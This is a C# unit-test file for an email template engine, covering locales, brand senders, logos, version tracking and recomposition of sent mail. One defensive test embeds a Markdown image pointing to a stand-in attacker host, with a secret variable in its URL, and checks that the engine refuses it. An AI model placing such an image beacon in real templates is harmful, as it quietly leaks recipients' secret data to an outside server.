using System.Text.Json;
using Waybill.Engine.Brands;
using Waybill.Engine.Catalogue;
using Waybill.Engine.Composing;
using Waybill.Engine.Journal;
using Waybill.Engine.Messages;
using Waybill.Engine.Specs.Databases;
using Waybill.Mime.Addresses;
using Waybill.Templates;
using Xunit;

namespace Waybill.Engine.Specs.Composing;

public sealed class Writing_from_a_template() : DatabaseContract(Provider.Sqlite)
{
    static readonly TemplateText English = new("en", "Your order {{number}}", "Hello {{name}},\n\nthank you for order **{{number}}**.");
    static readonly TemplateText German = new(
        "de", "Ihre Bestellung {{number}}", "Guten Tag {{name}},\n\ndanke für Bestellung **{{number}}**.");

    [Fact]
    public async Task Fills_subject_html_and_text()
    {
        await PublishAsync(English);
        var message = await WriteAsync(Mail());

        Assert.Equal("Your order 42", message.Subject);
        Assert.Contains("thank you for order <strong", message.Html, StringComparison.Ordinal);
        Assert.Contains("thank you for order 42", message.Text!.Replace("*", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("de", "en", "Ihre Bestellung 42")]
    [InlineData("de-CH", "en", "Ihre Bestellung 42")]
    [InlineData("DE", "en", "Ihre Bestellung 42")]
    [InlineData("fr", "de", "Ihre Bestellung 42")]
    [InlineData("fr", "it", "Your order 42")]
    [InlineData(null, "de", "Ihre Bestellung 42")]
    public async Task Takes_the_locale_that_was_asked_for_or_the_nearest(string? wanted, string brand, string subject)
    {
        await PublishAsync(English, German);
        await BrandAsync(new() { Name = "Corner Shop", Locale = brand });

        Assert.Equal(subject, (await WriteAsync(Mail() with { Locale = wanted, Brand = "shop" })).Subject);
    }

    [Fact]
    public async Task Without_english_or_the_brands_language_takes_the_one_it_was_written_in()
    {
        await PublishAsync(German);

        Assert.Equal("Ihre Bestellung 42", (await WriteAsync(Mail() with { Locale = "fr" })).Subject);
    }

    [Fact]
    public async Task Speaks_for_the_brand()
    {
        await PublishAsync(English);
        await BrandAsync(
            new()
            {
                Name = "Court Side",
                SenderName = "Court Side Strings",
                SenderAddress = "hello@court.example",
                SupportEmail = "help@court.example"
            });
        var message = await WriteAsync(Mail() with { Brand = "shop" });

        Assert.Equal("Court Side Strings <hello@court.example>", message.From.ToString());
        Assert.Equal("help@court.example", Assert.Single(message.ReplyTo).ToString());
        Assert.Contains("help@court.example", message.Html, StringComparison.Ordinal);
        Assert.Contains("help@court.example", message.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Speaks_for_the_default_brand_where_none_is_named()
    {
        await PublishAsync(English);

        Assert.Equal("Corner Shop <shop@example.com>", (await WriteAsync(Mail())).From.ToString());
    }

    [Fact]
    public async Task Lets_the_mails_own_sender_and_subject_go_first()
    {
        await PublishAsync(English);
        var message =
            await WriteAsync(
                Mail() with { From = Mailbox.Parse("me@example.com"), Subject = "Mine", ReplyTo = [Mailbox.Parse("you@example.com")] });

        Assert.Equal(
            ("me@example.com", "Mine", "you@example.com"), (message.From.ToString(), message.Subject, message.ReplyTo[0].ToString()));
    }

    [Fact]
    public async Task Attaches_the_logo_that_its_html_shows()
    {
        await PublishAsync(English);
        var image = Specs.Brands.Looking_at_a_logo.Png(120, 40);
        var logo = new Logo(await Office.Content.StoreAsync(image, None), "image/png", 120, 40, image.Length);
        await Office.Brands.CreateAsync(Office.Tenant, "shop", new() { Name = "Court Side" }, logo, null, None);
        var message = await WriteAsync(Mail() with { Brand = "shop" });

        Assert.Equal(("logo", "image/png"), (Assert.Single(message.Attachments).ContentId, message.Attachments[0].ContentType));
        Assert.Contains("cid:logo", message.Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Names_the_versions_that_it_was_written_from()
    {
        var published = await PublishAsync(English);
        var origin = (await WriteAsync(Mail())).Origin!;

        Assert.Equal(
            (published.VersionId, 0, "en", "order"), (origin.TemplateVersion, origin.BrandVersion, origin.Locale, origin.Template));
        Assert.Equal("Ann", origin.Data.GetProperty("name").GetString());
    }

    [Theory]
    [InlineData("nowhere", null, "{}", "template")]
    [InlineData("order", "nobody", "{}", "brand")]
    [InlineData("order", null, "{}", "variables")]
    [InlineData("order", null, "[]", "variables")]
    [InlineData("order", null, """{"name":{},"number":1}""", "variables")]
    public async Task Refuses_what_cannot_be_written_and_names_it(string template, string? brand, string data, string field)
    {
        await PublishAsync(English);
        var refused = Assert.IsType<Writing.Refused>(
            await Office.Writer.WriteAsync(
                Office.Tenant, Mail() with { Template = template, Brand = brand, Data = JsonDocument.Parse(data).RootElement }, None));

        Assert.Equal(field, refused.Field);
        Assert.NotEmpty(refused.Sentence);
    }

    [Fact]
    public async Task Composed_anew_from_the_same_versions_nothing_differs()
    {
        await PublishAsync(English);
        await BrandAsync(new() { Name = "Court Side" });
        var id = await Office.AcceptAsync(await WriteAsync(Mail() with { Brand = "shop" }));
        await ChangeEverythingAsync();

        Assert.True((await AgainAsync(id, current: false)).IsSame);
    }

    [Fact]
    public async Task Composed_anew_from_the_present_ones_shows_what_changed()
    {
        await PublishAsync(English);
        await BrandAsync(new() { Name = "Court Side" });
        var id = await Office.AcceptAsync(await WriteAsync(Mail() with { Brand = "shop" }));
        await ChangeEverythingAsync();
        var again = await AgainAsync(id, current: true);

        Assert.Equal(("Your order 42", "Changed 42"), (again.Sent.Subject, again.Anew.Subject));
        Assert.False(again.IsSame);
    }

    [Fact]
    public async Task Of_a_tenant_without_a_brand_it_is_composed_anew_alike()
    {
        await PublishAsync(English);
        var id = await Office.AcceptAsync(await WriteAsync(Mail()));

        Assert.True((await AgainAsync(id, current: false)).IsSame);
    }

    [Fact]
    public async Task What_was_posted_as_it_is_cannot_be_composed_anew()
    {
        var id = await Office.AcceptAsync();
        var snapshot = await Office.Journal.FindSnapshotAsync(Office.Tenant, id, None);

        Assert.IsType<Recomposed.Impossible>(await Office.Recomposing.ComposeAsync(snapshot!, current: true, None));
    }

    /// <summary>
    /// Whether the template says that it is secret, or only the event that it is filled from; whoever published it, and by which program.
    /// </summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_secret_is_not_given_away_by_a_template_that_was_published_before(bool isDeclared)
    {
        var content = new TemplateContent
        {
            Format = TemplateFormat.Markdown,
            Texts = [new("en", "x", "Hello\n\n![x](https://evil.test/p.png?u={{number}})")],
            Variables = [new("number", VariableType.Text, IsRequired: true) { IsSecret = isDeclared }],
        };
        await Office.Templates.ShipAsync([new("order", content)], None);

        var refused =
            Assert.IsType<Writing.Refused>(
                await Office.Writer.WriteAsync(Office.Tenant, Mail() with { SecretPaths = isDeclared ? [] : ["number"] }, None));

        Assert.StartsWith("The template order gives a secret away: number is secret", refused.Sentence, StringComparison.Ordinal);
        Assert.EndsWith("(line 3, column 32)", refused.Sentence, StringComparison.Ordinal);
    }

    async Task ChangeEverythingAsync()
    {
        await Office.Templates.EditAsync(
            Office.Tenant, "order", null,
            present => present with { Content = present.Content with { Texts = [English with { Subject = "Changed {{number}}" }] } }, None);
        Assert.IsType<TemplateChange.Done>(await Office.Templates.PublishAsync(Office.Tenant, "order", None));
        var brand = (await Office.Brands.FindAsync(Office.Tenant, "shop", None))!;
        await Office.Brands.ChangeAsync(
            Office.Tenant, brand.Id, null,
            present => present with { Identity = present.Identity with { Name = "Another", Colour = "#aa0000" } }, None);
    }

    async Task<Recomposed.Done> AgainAsync(MessageId id, bool current) => Assert.IsType<Recomposed.Done>(
        await Office.Recomposing.ComposeAsync((await Office.Journal.FindSnapshotAsync(Office.Tenant, id, None))!, current, None));

    async Task<NewMessage> WriteAsync(TemplatedMail mail) =>
        Assert.IsType<Writing.Written>(await Office.Writer.WriteAsync(Office.Tenant, mail, None)).Message;

    async Task<Template> PublishAsync(params TemplateText[] texts)
    {
        var content = new TemplateContent
        {
            Format = TemplateFormat.Markdown,
            Texts = texts,
            Variables = [new("name", VariableType.Text, IsRequired: true), new("number", VariableType.Text, IsRequired: true)],
        };
        await Office.Templates.CreateAsync(Office.Tenant, "Order", "order", content, None);
        return Assert.IsType<TemplateChange.Done>(await Office.Templates.PublishAsync(Office.Tenant, "order", None)).Template;
    }

    Task BrandAsync(BrandIdentity identity) => Office.Brands.CreateAsync(Office.Tenant, "shop", identity, logo: null, relay: null, None);

    static TemplatedMail Mail() => new()
    {
        Template = "order",
        Data = JsonDocument.Parse("""{"name":"Ann","number":42}""").RootElement,
        Stream = "api",
        Recipients = [new(0, RecipientKind.To, Mailbox.Parse("ann@example.org"))],
    };
}
